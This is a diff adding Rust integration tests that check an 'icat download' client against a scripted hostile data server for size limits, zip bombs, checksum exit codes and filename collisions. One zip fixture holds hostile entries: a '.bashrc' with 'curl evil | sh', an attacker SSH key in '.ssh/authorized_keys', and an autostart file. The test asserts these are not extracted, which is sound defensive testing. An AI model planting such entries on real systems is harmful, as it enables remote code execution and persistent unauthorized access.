@@ -1,0 +1,417 @@
+//! `icat download` against a hostile IDS (issue 14, download half): the simulator is the ICAT,
+//! a scripted raw-TCP server on 127.0.0.1 is the IDS. What the command prints and its exit code
+//! must tell the truth: checksum failures exit 6, files with nothing to verify against exit 7,
+//! nothing beyond the catalogue size is written, zip entries nobody asked for are not extracted.
+//! Set `ICAT_TEST_TIME=/usr/bin/time` to print the `icat` process's peak memory.
+
+mod common;
+
+#[path = "../../icat-ids/tests/hostile/server.rs"]
+mod hostile;
+
+use std::path::Path;
+use std::time::Duration;
+
+use common::{Home, files_under, json, login, ok, start_sim, stderr, stdout};
+use hostile::{Body, HostileIds, PREPARED_ID, Reply, make_zip};
+
+/// One datafile of the simulator's catalogue.
+struct Df {
+    id: i64,
+    name: String,
+    size: u64,
+    /// `<visit>/<dataset>` as the IDS zip layout and `icat download` use it.
+    dir: String,
+}
+
+fn datafiles(home: &Home, visit: &str) -> Vec<Df> {
+    let doc = json(&home.run(&["show", visit, "--json"]));
+    let visit_id = doc["visit_id"].as_str().unwrap().to_string();
+    let mut out = Vec::new();
+    for ds in doc["datasets"].as_array().unwrap() {
+        for f in ds["files"].as_array().unwrap() {
+            out.push(Df {
+                id: f["id"].as_i64().unwrap(),
+                name: f["name"].as_str().unwrap().to_string(),
+                size: f["size"].as_u64().unwrap(),
+                dir: format!("{visit_id}/{}", ds["name"].as_str().unwrap()),
+            });
+        }
+    }
+    out
+}
+
+/// The hostile server on its own runtime (the simulator has its own).
+struct Server {
+    ids: HostileIds,
+    _rt: tokio::runtime::Runtime,
+}
+
+fn serve(handler: impl Fn(&hostile::Request) -> Reply + Send + Sync + 'static) -> Server {
+    let rt = tokio::runtime::Builder::new_multi_thread()
+        .worker_threads(1)
+        .enable_all()
+        .build()
+        .unwrap();
+    let ids = rt.block_on(HostileIds::start(handler));
+    Server { ids, _rt: rt }
+}
+
+/// `icat --idsurl <hostile> download ...`, through `$ICAT_TEST_TIME -v` when set.
+fn download(ids: &Server, home: &Home, args: &[&str]) -> std::process::Output {
+    let url = ids.ids.url();
+    let mut all = vec!["--idsurl", url.as_str(), "download"];
+    all.extend_from_slice(args);
+    match std::env::var_os("ICAT_TEST_TIME") {
+        Some(time) => {
+            let cmd = home.icat(&all);
+            let mut timed = std::process::Command::new(time);
+            timed
+                .arg("-v")
+                .arg(cmd.get_program())
+                .args(cmd.get_args())
+                .envs(cmd.get_envs().filter_map(|(k, v)| Some((k, v?))))
+                .env_remove("ICAT_TEST_TIME")
+                .current_dir(home.path())
+                .stdin(std::process::Stdio::null());
+            let o = timed.output().unwrap();
+            let err = stderr(&o);
+            if let Some(line) = err
+                .lines()
+                .find(|l| l.contains("Maximum resident set size"))
+            {
+                eprintln!("icat {}: {}", args.join(" "), line.trim());
+            }
+            o
+        }
+        None => home.run(&all),
+    }
+}
+
+fn sizes_under(dir: &Path) -> Vec<(String, u64)> {
+    files_under(dir)
+        .into_iter()
+        .map(|p| {
+            let len = std::fs::metadata(dir.join(&p)).unwrap().len();
+            (p.to_string_lossy().into_owned(), len)
+        })
+        .collect()
+}
+
+/// Finding 2: the catalogue says N bytes, the IDS sends without end (and with a lying 50 GB
+/// length): exit 6, nothing at the final path, nothing written beyond N bytes.
+#[test]
+fn endless_body_exits_6_and_writes_nothing_past_the_catalogue_size() {
+    let sim = start_sim(
+        "visits=1,datasets=1,files=1,size=1000",
+        false,
+        Duration::ZERO,
+    );
+    let home = Home::new();
+    login(&home, &sim, "jdoe");
+    let df = &datafiles(&home, "SIM000001")[0];
+    for content_length in [None, Some(50_000_000_000u64)] {
+        let ids = serve(move |_| Reply::body(Body::Endless { content_length }));
+        let dest = home.path().join("endless");
+        let o = download(
+            &ids,
+            &home,
+            &[
+                "--datafile",
+                &df.id.to_string(),
+                "-o",
+                dest.to_str().unwrap(),
+            ],
+        );
+        assert_eq!(o.status.code(), Some(6), "{}", stderr(&o));
+        assert!(
+            stderr(&o).contains("more than the expected"),
+            "{}",
+            stderr(&o)
+        );
+        for (p, len) in sizes_under(&dest) {
+            assert!(
+                len <= df.size,
+                "{p}: {len} bytes written, catalogue says {}",
+                df.size
+            );
+        }
+        assert!(!dest.join(&df.dir).join(&df.name).exists());
+        assert!(ids.ids.bytes_sent() < hostile::SERVER_CAP);
+    }
+}
+
+/// Findings 3 and 9: a `--zip` answer with extra entries (dot files, an autostart file), an
+/// entry that fails its catalogue checksum, and a good entry: the good file is extracted and
+/// verified, nothing else is written, the extra entries are reported, and the run exits 6
+/// (verification) with a checksum message, not "IDS internal error".
+#[test]
+fn zip_with_extra_and_bad_entries_extracts_only_good_selected_files() {
+    let sim = start_sim(
+        "visits=1,datasets=1,files=2,size=2000",
+        false,
+        Duration::ZERO,
+    );
+    let home = Home::new();
+    login(&home, &sim, "jdoe");
+    let dfs = datafiles(&home, "SIM000001");
+    let good_bytes = {
+        // Bytes that match the catalogue: take them from the simulator's own IDS.
+        let dest = home.path().join("reference");
+        ok(&home.run(&[
+            "download",
+            "--datafile",
+            &dfs[0].id.to_string(),
+            "-o",
+            dest.to_str().unwrap(),
+        ]));
+        std::fs::read(dest.join(&dfs[0].dir).join(&dfs[0].name)).unwrap()
+    };
+    assert_eq!(good_bytes.len() as u64, dfs[0].size);
+    let entry = |df: &Df| format!("ids/SIM/INV/{}/{}", df.dir, df.name);
+    let zip = make_zip(
+        &[
+            (&entry(&dfs[0]), &good_bytes),
+            (&entry(&dfs[1]), &vec![b'!'; dfs[1].size as usize]),
+            (".bashrc", b"curl evil | sh"),
+            (".ssh/authorized_keys", b"ssh-rsa AAAA attacker"),
+            (".config/autostart/evil.desktop", b"[Desktop Entry]"),
+        ],
+        false,
+    );
+    let ids = serve(move |req| match req.call.as_str() {
+        "prepareData" => Reply::ok(PREPARED_ID),
+        "isPrepared" => Reply::ok("true"),
+        "getData" => Reply::ok(zip.clone()),
+        _ => Reply::not_found(),
+    });
+    let dest = home.path().join("zip");
+    let ids_list = format!("{},{}", dfs[0].id, dfs[1].id);
+    let o = download(
+        &ids,
+        &home,
+        &[
+            "--datafile",
+            &ids_list,
+            "--zip",
+            "-o",
+            dest.to_str().unwrap(),
+        ],
+    );
+    let err = stderr(&o);
+    assert_eq!(o.status.code(), Some(6), "{err}");
+    assert!(err.contains("checksum mismatch"), "{err}");
+    assert!(!err.contains("internal error"), "{err}");
+    assert!(
+        err.contains("not extracted") && err.contains("authorized_keys"),
+        "{err}"
+    );
+    let good = format!("{}/{}", dfs[0].dir, dfs[0].name);
+    // Besides the good file only the bad entry's bytes, kept where the error message says.
+    let kept = format!(".icat-download/df-{}.part", dfs[1].id);
+    assert!(err.contains(&kept), "{err}");
+    assert_eq!(
+        files_under(&dest),
+        vec![
+            std::path::PathBuf::from(&kept),
+            std::path::PathBuf::from(&good)
+        ]
+    );
+    assert_eq!(std::fs::read(dest.join(&good)).unwrap(), good_bytes);
+    assert!(!home.path().join(".bashrc").exists() && !home.path().join(".ssh").exists());
+}
+
+/// Finding 3: a zip bomb (64 MiB of zeros deflated to about 64 KiB) for a datafile the
+/// catalogue says is 2000 bytes: exit 6, nothing larger than 2000 bytes on disk.
+#[test]
+fn zip_bomb_exits_6_and_writes_nothing_past_the_catalogue_size() {
+    let sim = start_sim(
+        "visits=1,datasets=1,files=1,size=2000",
+        false,
+        Duration::ZERO,
+    );
+    let home = Home::new();
+    login(&home, &sim, "jdoe");
+    let df = &datafiles(&home, "SIM000001")[0];
+    let bomb = vec![0u8; 64 << 20];
+    let zip = make_zip(
+        &[(&format!("ids/SIM/INV/{}/{}", df.dir, df.name), &bomb)],
+        true,
+    );
+    drop(bomb);
+    assert!(zip.len() < 1 << 20);
+    let ids = serve(move |req| match req.call.as_str() {
+        "prepareData" => Reply::ok(PREPARED_ID),
+        "isPrepared" => Reply::ok("true"),
+        "getData" => Reply::ok(zip.clone()),
+        _ => Reply::not_found(),
+    });
+    let dest = home.path().join("bomb");
+    let o = download(
+        &ids,
+        &home,
+        &[
+            "--datafile",
+            &df.id.to_string(),
+            "--zip",
+            "-o",
+            dest.to_str().unwrap(),
+        ],
+    );
+    assert_eq!(o.status.code(), Some(6), "{}", stderr(&o));
+    assert!(
+        stderr(&o).contains("more than the expected"),
+        "{}",
+        stderr(&o)
+    );
+    for (p, len) in sizes_under(&dest) {
+        assert!(
+            len <= df.size,
+            "{p}: {len} bytes written, catalogue says {}",
+            df.size
+        );
+    }
+}
+
+/// Finding 11: the catalogue has no size and no checksum, the IDS sends a third of the file
+/// without a length and closes: the file is placed but named as not verified, and the run
+/// exits 7 so a script can tell.
+#[test]
+fn nothing_to_verify_against_exits_7_and_names_the_file() {
+    let sim = start_sim(
+        "visits=1,datasets=1,files=1,size=1000",
+        false,
+        Duration::ZERO,
+    );
+    let home = Home::new();
+    login(&home, &sim, "jdoe");
+    let df = &datafiles(&home, "SIM000001")[0];
+    sim.sql(&format!(
+        r#"UPDATE "Datafile" SET "fileSize" = NULL, "checksum" = NULL WHERE "id" = {}"#,
+        df.id
+    ));
+    let ids = serve(|_| Reply::body(Body::CloseDelimited(vec![7u8; 333])));
+    let dest = home.path().join("cut");
+    let o = download(
+        &ids,
+        &home,
+        &[
+            "--datafile",
+            &df.id.to_string(),
+            "-o",
+            dest.to_str().unwrap(),
+        ],
+    );
+    let err = stderr(&o);
+    assert_eq!(o.status.code(), Some(7), "{err}\n{}", stdout(&o));
+    assert!(
+        err.contains("not verified") && err.contains(&df.name),
+        "{err}"
+    );
+    assert!(err.contains("NOT verified"), "{err}");
+    // --no-verify asks for exactly this: the file is accepted, the summary still says so.
+    let dest = home.path().join("cut2");
+    let o = download(
+        &ids,
+        &home,
+        &[
+            "--datafile",
+            &df.id.to_string(),
+            "--no-verify",
+            "-o",
+            dest.to_str().unwrap(),
+        ],
+    );
+    assert!(ok(&o).contains("1 NOT verified"), "{}", stdout(&o));
+}
+
+/// Finding 1, end to end with the simulator: a dataset holding `x` and `x.part` downloads both,
+/// each with its own bytes, at any parallelism; and `A.dat` beside `a.dat` is reported.
+#[test]
+fn datafiles_named_like_temporary_files_or_colliding_in_case_download_apart() {
+    let sim = start_sim(
+        "visits=1,datasets=1,files=1,size=1KiB",
+        false,
+        Duration::ZERO,
+    );
+    let home = Home::new();
+    let o = home.run_with_stdin(
+        &[
+            "-w",
+            &sim.icat_url,
+            "--idsurl",
+            &sim.ids_url,
+            "-a",
+            "simple",
+            "-u",
+            "root",
+            "--password-stdin",
+            "login",
+        ],
+        "secret\n",
+    );
+    ok(&o);
+    let tree = json(&home.run(&["show", "SIM000001", "--json"]));
+    let ds = tree["datasets"][0]["id"].as_i64().unwrap().to_string();
+    let src = home.path().join("src");
+    std::fs::create_dir(&src).unwrap();
+    let x: Vec<u8> = (0..5000u32).map(|i| (i % 251) as u8).collect();
+    let xpart: Vec<u8> = (0..9000u32).map(|i| (i % 241) as u8).collect();
+    std::fs::write(src.join("x"), &x).unwrap();
+    std::fs::write(src.join("x.part"), &xpart).unwrap();
+    ok(&home.run(&[
+        "upload",
+        src.join("x.part").to_str().unwrap(),
+        src.join("x").to_str().unwrap(),
+        "--dataset",
+        &ds,
+        "--format",
+        "NeXus",
+    ]));
+    let dir = datafiles(&home, "SIM000001")
+        .into_iter()
+        .find(|d| d.name == "x")
+        .unwrap()
+        .dir;
+    for parallel in ["1", "4"] {
+        let dest = home.path().join(format!("out{parallel}"));
+        let out = ok(&home.run(&[
+            "download",
+            "--dataset",
+            &ds,
+            "--parallel",
+            parallel,
+            "-o",
+            dest.to_str().unwrap(),
+        ]));
+        assert!(out.contains("downloaded 3 files"), "{out}");
+        assert!(std::fs::read(dest.join(&dir).join("x")).unwrap() == x, "x");
+        assert!(
+            std::fs::read(dest.join(&dir).join("x.part")).unwrap() == xpart,
+            "x.part"
+        );
+        assert_eq!(files_under(&dest).len(), 3, "{:?}", files_under(&dest));
+    }
+    // Two names that differ only in case.
+    std::fs::write(src.join("A.dat"), b"upper").unwrap();
+    let lower = home.path().join("lower");
+    std::fs::create_dir(&lower).unwrap();
+    std::fs::write(lower.join("a.dat"), b"lower").unwrap();
+    for f in [src.join("A.dat"), lower.join("a.dat")] {
+        ok(&home.run(&[
+            "upload",
+            f.to_str().unwrap(),
+            "--dataset",
+            &ds,
+            "--format",
+            "NeXus",
+        ]));
+    }
+    let dest = home.path().join("case");
+    let o = home.run(&["download", "--dataset", &ds, "-o", dest.to_str().unwrap()]);
+    let err = stderr(&o);
+    assert_eq!(o.status.code(), Some(1), "{err}");
+    assert!(err.contains("differ only in letter case"), "{err}");
+    assert!(!dest.join(&dir).join("A.dat").exists() && !dest.join(&dir).join("a.dat").exists());
+    assert!(dest.join(&dir).join("x.part").exists());
+}
